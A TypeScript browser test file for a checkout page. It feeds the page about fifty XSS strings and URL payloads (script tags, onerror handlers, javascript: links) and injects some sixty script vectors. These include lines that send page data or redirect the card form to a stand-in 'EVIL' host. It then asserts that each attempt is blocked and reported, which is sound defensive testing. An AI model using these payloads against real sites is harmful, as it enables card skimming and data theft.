// Whatever a merchant's data or a stranger puts into the page: none of it runs, and what tried is reported.

import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { fullAsks, startPageServer, viewOf } from './checkout-support.ts';
import { chromiumIsMissing, launchChromium } from './chromium.ts';

const run = 'globalThis.ran=1';
const texts: readonly string[] = [
  `<script>${run}</script>`,
  `</script><script>${run}</script>`,
  `"><script>${run}</script>`,
  `'><script>${run}</script>`,
  `</title><script>${run}</script>`,
  `</style><script>${run}</script>`,
  `</textarea><script>${run}</script>`,
  `<!--<script>${run}</script>-->`,
  `--><script>${run}</script>`,
  `<img src=x onerror=${run}>`,
  `"><img src=x onerror=${run}>`,
  `<svg onload=${run}>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  `" autofocus onfocus="${run}`,
  `' autofocus onfocus='${run}`,
  `<input autofocus onfocus=${run}>`,
  `<details open ontoggle=${run}>`,
  `<body onload=${run}>`,
  `<iframe srcdoc="<script>parent.ran=1</script>">`,
  `<iframe src="javascript:parent.ran=1">`,
  `<object data="javascript:${run}">`,
  `<embed src="javascript:${run}">`,
  `<a href="javascript:${run}">x</a>`,
  `<form action="javascript:${run}"><button>`,
  `<button formaction="javascript:${run}">`,
  `<base href="https://evil.example/">`,
  `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
  `<link rel=stylesheet href="https://evil.example/x.css">`,
  `<style>@import "https://evil.example/x.css"</style>`,
  `<script src="https://evil.example/x.js"></script>`,
  `<script type=module>${run}</script>`,
  `<script type=importmap>{"imports":{}}</script>`,
  `\u2028${run}\u2029`,
  `\\u003cscript>${run}\\u003c/script>`,
  `{{constructor.constructor('${run}')()}}`,
  `\${${run}}`,
  `javascript:${run}`,
  `data:text/html,<script>${run}</script>`,
  `<math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`,
];
const urls: readonly string[] = [
  `javascript:${run}`,
  ` javascript:${run}`,
  `JaVaScRiPt:${run}`,
  `java\nscript:${run}`,
  `data:text/html,<script>${run}</script>`,
  `vbscript:${run}`,
  `https://x.example/"onmouseover="${run}`,
  `https://x.example/'><script>${run}</script>`,
  `//evil.example/`,
  `blob:https://x.example/1`,
];

const element = (tag: string, set: string, into = 'document.body') =>
  `const e=document.createElement('${tag}');${set};${into}.append(e)`;
const svg = (tag: string, set: string) =>
  `const e=document.createElementNS('http://www.w3.org/2000/svg','${tag}');${set};document.body.append(e)`;
const throughFrame = (src: string) => element('iframe', `e.src=${src}`);

/** What a script would do that a stranger got into the page. */
const vectors: readonly (readonly [name: string, how: string])[] = [
  // More scripts.
  ['an inline script', element('script', `e.append('${run}')`)],
  ['a script by its text', element('script', `e.text='${run}'`)],
  ['a script of elsewhere', element('script', `e.src='https://EVIL/x.js'`)],
  ['a module', element('script', `e.type='module';e.append('${run}')`)],
  ['a module of elsewhere', element('script', `e.type='module';e.src='https://EVIL/x.js'`)],
  ['a script out of data', element('script', `e.src='data:text/javascript,${run}'`)],
  ['a script out of a blob', element('script', `e.src=URL.createObjectURL(new Blob(['${run}']))`)],
  [
    'a script with a nonce that is guessed',
    element('script', `e.nonce='guess';e.append('${run}')`),
  ],
  ['a script in a drawing', svg('script', `e.append('${run}')`)],
  ['an import', `import('https://EVIL/x.js').catch(()=>{})`],
  ['an import of data', `import('data:text/javascript,${run}').catch(()=>{})`],
  ['a map of imports', element('script', `e.type='importmap';e.append('{"imports":{}}')`)],
  [
    'preloading',
    element('link', `e.rel='modulepreload';e.href='https://EVIL/x.js'`, 'document.head'),
  ],
  // Handlers.
  ['a click', `document.body.setAttribute('onclick','${run}');document.body.click()`],
  ['an error', element('img', `e.setAttribute('onerror','${run}');e.src='x:'`)],
  ['a focus', element('input', `e.setAttribute('onfocus','${run}');e.autofocus=true`)],
  ['a toggle', element('details', `e.setAttribute('ontoggle','${run}');e.open=true`)],
  ['a load of a drawing', svg('svg', `e.setAttribute('onload','${run}')`)],
  ['the beginning of an animation', svg('animate', `e.setAttribute('onbegin','${run}')`)],
  ['a pointer', `document.body.setAttribute('onpointerrawupdate','${run}')`],
  // Addresses that run.
  ['a link', `${element('a', `e.href='javascript:${run}'`)};e.click()`],
  ['an address', `location.href='javascript:${run}'`],
  ['a frame', throughFrame(`'javascript:parent.ran=1'`)],
  ['a form', `${element('form', `e.action='javascript:${run}'`)};e.submit()`],
  // Text that becomes markup or code.
  ['markup inside', `document.body.innerHTML='<img src=x onerror=${run}>'`],
  ['markup in its place', `document.querySelector('#say').outerHTML='<img src=x onerror=${run}>'`],
  ['markup beside', `document.body.insertAdjacentHTML('beforeend','<img src=x onerror=${run}>')`],
  ['markup that is written', `document.write('<img src=x onerror=${run}>')`],
  ['markup that is parsed', `new DOMParser().parseFromString('<p>','text/html')`],
  ['markup of a range', `new Range().createContextualFragment('<img src=x onerror=${run}>')`],
  ['markup that is called unsafe', `document.body.setHTMLUnsafe('<img src=x onerror=${run}>')`],
  [
    'markup in a shadow',
    `const e=document.createElement('div');e.attachShadow({mode:'open'}).innerHTML='<b>'`,
  ],
  ['the document of a frame', element('iframe', `e.srcdoc='<script>parent.ran=1</'+'script>'`)],
  ['eval', `eval('${run}')`],
  ['a function of text', `new Function('${run}')()`],
  ['a timer', `setTimeout('${run}',0)`],
  ['another timer', `setInterval('${run}',5)`],
  ['a policy for trusted types', `trustedTypes.createPolicy('default',{createHTML:(x)=>x})`],
  ['a worker', `new Worker('data:text/javascript,${run}')`],
  ['a shared worker', `new SharedWorker('/checkout/x.js')`],
  ['a service worker', `navigator.serviceWorker.register('/checkout/x.js').catch(()=>{})`],
  // What is loaded, and what would carry something away.
  ['an image', `new Image().src='https://EVIL/?'+document.title`],
  ['a request', `fetch('https://EVIL/').catch(()=>{})`],
  ['an older request', `const r=new XMLHttpRequest();r.open('GET','https://EVIL/');r.send()`],
  ['a beacon', `navigator.sendBeacon('https://EVIL/','x')`],
  ['a socket', `new WebSocket('wss://EVIL/')`],
  ['a stream of events', `new EventSource('https://EVIL/')`],
  ['a frame of elsewhere', throughFrame(`'https://EVIL/'`)],
  ['a frame of data', throughFrame(`'data:text/html,<script>parent.ran=1</'+'script>'`)],
  ['a frame of a blob', throughFrame(`URL.createObjectURL(new Blob(['x'],{type:'text/html'}))`)],
  ['an object', element('object', `e.data='https://EVIL/'`)],
  ['something embedded', element('embed', `e.src='https://EVIL/'`)],
  ['a film', element('video', `e.src='https://EVIL/x.mp4'`)],
  [
    'a style of elsewhere',
    element('link', `e.rel='stylesheet';e.href='https://EVIL/x.css'`, 'document.head'),
  ],
  ['a style', element('style', `e.append('#number{color:red}')`, 'document.head')],
  ['a style at an element', `document.body.setAttribute('style','color:red')`],
  [
    'a style that asks what was typed',
    `document.body.style.backgroundImage='url(https://EVIL/?4)'`,
  ],
  [
    'a sheet that asks what was typed',
    `const s=new CSSStyleSheet();s.replaceSync('html{background:url(https://EVIL/?5)}');document.adoptedStyleSheets=[s]`,
  ],
  ['a font', `const f=new FontFace('x','url(https://EVIL/x.woff2)');f.load().catch(()=>{})`],
  ['where a form is sent', `${element('form', `e.action='https://EVIL/'`)};e.submit()`],
  [
    'the form of the card',
    `const f=document.querySelector('#pay');f.action='https://EVIL/';f.submit()`,
  ],
  ['a base', element('base', `e.href='https://EVIL/'`, 'document.head')],
];

describe('the page of a checkout', { skip: await chromiumIsMissing() }, async () => {
  const server = await startPageServer();
  const browser = await launchChromium();
  const { page } = await browser.newPage({});
  // What was blocked was asked for all the same; what counts is whether anybody answered.
  const answered: string[] = [];
  page.on('response', (response) => answered.push(response.url()));
  const hasRun = () => page.evaluate('globalThis.ran === 1');

  test(`runs nothing of ${texts.length + urls.length} texts and addresses that want to`, async () => {
    assert.ok(texts.length + urls.length >= 50);
    for (const text of texts) {
      const { lines, known } = viewOf('any');
      const { url } = server.open({
        merchant: { name: text, supportEmail: text, supportUrl: text },
        lines: [{ ...lines[0]!, name: text, description: text }],
        asks: {
          ...fullAsks,
          customFields: [{ ...fullAsks.customFields[0]!, label: text, value: text }],
        },
        known: { ...known, email: text, name: text },
        texts: {
          submit: text,
          afterSubmit: text,
          shippingAddress: text,
          terms: text,
          confirmation: text,
          closed: text,
        },
      });
      await page.goto(url);
      assert.equal(await hasRun(), false, text);
    }
    for (const link of urls) {
      for (const status of ['open', 'expired', 'complete', 'locked'] as const) {
        const view = viewOf('any');
        const { url } = server.open({
          status,
          merchant: { ...view.merchant, supportUrl: link },
          urls: { ...view.urls, success: link, cancel: link, recover: link },
        });
        await page.goto(url);
        const hrefs = (await page.evaluate(
          '[...document.querySelectorAll("a")].map((a) => a.protocol)',
        )) as readonly string[];
        assert.deepEqual(
          hrefs.filter((protocol) => !/^(https?|mailto):$/.test(protocol)),
          [],
          link,
        );
        assert.equal(await hasRun(), false, link);
      }
    }
    assert.deepEqual(
      answered.filter((url) => /evil|x\.example/.test(url)),
      [],
    );
  });

  test(`blocks ${vectors.length} things that got into the page in spite of it, and hears of each`, async () => {
    assert.ok(vectors.length >= 50);
    const { url } = server.open();
    await page.goto(url);
    // One thing may be reported twice: what comes late is not taken for the next.
    const reportsOnceQuiet = async (): Promise<number> => {
      let count = -1;
      while (count !== server.reports.length) {
        count = server.reports.length;
        await page.waitForTimeout(30);
      }
      return count;
    };
    const isReported = async (at: number, how: string, patience: number): Promise<boolean> => {
      const before = await reportsOnceQuiet();
      // Later, because what a debugger evaluates may do more than a page.
      await page.evaluate(
        `setTimeout(() => { ${how.replaceAll('EVIL', `e${at}.evil.example`)} }, 0)\n//# sourceURL=vector-${at}.js`,
      );
      for (let wait = 0; wait < patience && server.reports.length === before; wait += 1) {
        await page.waitForTimeout(10);
      }
      return server.reports.length > before;
    };
    for (const [at, [name, how]] of vectors.entries()) {
      if (!(await isReported(at, how, 30))) {
        // A browser tells the same of one page only once, and one thing may look like another.
        await page.goto(url);
        assert.ok(await isReported(at, how, 1_000), `${name} was reported`);
      }
      assert.equal(await hasRun(), false, name);
    }
    assert.deepEqual(
      answered.filter((url) => url.includes('evil')),
      [],
    );
    assert.ok(new Set(server.reports).size >= 10, [...new Set(server.reports)].join(', '));
  });

  test('charges what the server knows, whatever a browser makes of the form', async () => {
    const { url, session } = server.open();
    await page.goto(url);
    await page.evaluate(`document.querySelector('[name=expected_amount]').value = '1'`);
    await page.getByLabel('Email').fill('jenny@example.com');
    await page.getByLabel('Card number').fill('4242424242424242');
    await page.getByLabel('Expiry').fill('12 / 34');
    await page.getByLabel('Security code').fill('123');
    await page.getByLabel('Name on card').fill('Jenny Rosen');
    await page.getByRole('button', { name: /^Pay/ }).click();
    await page.getByRole('heading', { name: 'Payment successful' }).waitFor();
    // The page sends what it was made to say, and it is for the server to refuse it: no field names a price.
    const names = [...(session.posted[0]?.keys() ?? [])];
    assert.deepEqual(
      names.filter((name) => /amount|price|currency/.test(name)),
      ['expected_amount'],
    );
  });
});
